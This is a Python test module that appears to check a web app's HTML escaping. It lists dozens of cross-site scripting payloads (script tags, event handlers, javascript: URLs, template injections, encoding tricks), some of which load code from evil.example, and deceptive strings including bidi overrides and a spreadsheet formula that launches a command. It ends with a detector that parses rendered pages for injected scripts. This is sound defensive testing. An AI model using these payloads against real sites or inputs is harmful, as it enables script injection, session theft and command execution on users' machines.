"""Texts that would run, break out or deceive where something is forgotten. Each tries to set window.pwned."""

import re

import html5lib

RUN = "window.pwned=1,alert(1)"
XSS = (
    # elements
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR=`{RUN}`>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<a href=javascript:{RUN}>بیشتر</a>",
    f"<form action=javascript:{RUN}><button>برو</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    # out of where they stand
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' '",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</bdi></mark><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"<!--<img src='--><img src=x onerror={RUN}>'>",
    f'\\";{RUN};//',
    f"<a\x0chref=javascript:{RUN}>",
    # addresses
    f"javascript:{RUN}",
    f"JaVaScRiPt&colon;{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    # templates
    "{{ request.user.password }}{% debug %}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}#{7*7}<%= 7*7 %>",
    "%s %(user)s {0.__class__} \\u003cscript\\u003e",
    # entities and encodings
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u02bascript\u02ba \uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<mark>{RUN}</mark><!-- ِِِِِ -->",
)
#: What deceives or chokes rather than runs.
ODD = (
    "خبر\u202eدروغ\u202c و \u2066پنهان\u2069",  # turns the text around it
    "\u200f\u200e\ufeff\u00ad" * 20 + "ناپیدا",
    "раураl یزد ۱۲۳ ١٢٣",  # Cyrillic and two kinds of digits that look alike
    "ا" + "\u0301" * 400,  # letters that climb over the page
    '=HYPERLINK("https://evil.example","یزد")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "ب" * 900,
)

_ADDRESSES = ("href", "src", "action", "formaction", "poster", "data", "xlink:href")
_FOREIGN = {"iframe", "object", "embed", "base", "frame", "math", "animate", "mglyph", "style", "video"}
_SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.-]*):", re.IGNORECASE)
_DATA_BLOCKS = ("application/ld+json", "application/json")


def intruders(page: str) -> list[str]:
    """What a browser would make of a page that none of our templates writes."""
    found = []
    for element in html5lib.parse(page, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue
        name = element.tag.rpartition("}")[2].lower()
        given = {str(key).rpartition("}")[2].lower(): value for key, value in element.attrib.items()}
        if name in _FOREIGN or (name == "script" and not _is_ours(given)):
            found.append(f"<{name}>")
        found += [f"<{name} {key}>" for key in given if key.startswith("on") or key in ("style", "srcdoc")]
        found += [f"<{name} {key}={given[key]}>" for key in _ADDRESSES if _runs(given.get(key, ""))]
        if given.get("http-equiv", "").lower() == "refresh":
            found.append("<meta refresh>")
    return found


def _is_ours(given: dict[str, str]) -> bool:
    return re.match("/[a-z]", given.get("src", "")) is not None or given.get("type") in _DATA_BLOCKS


def _runs(address: str) -> bool:
    scheme = _SCHEME.match(address)
    return bool(scheme) and scheme[1].lower() in ("javascript", "vbscript", "data", "blob")
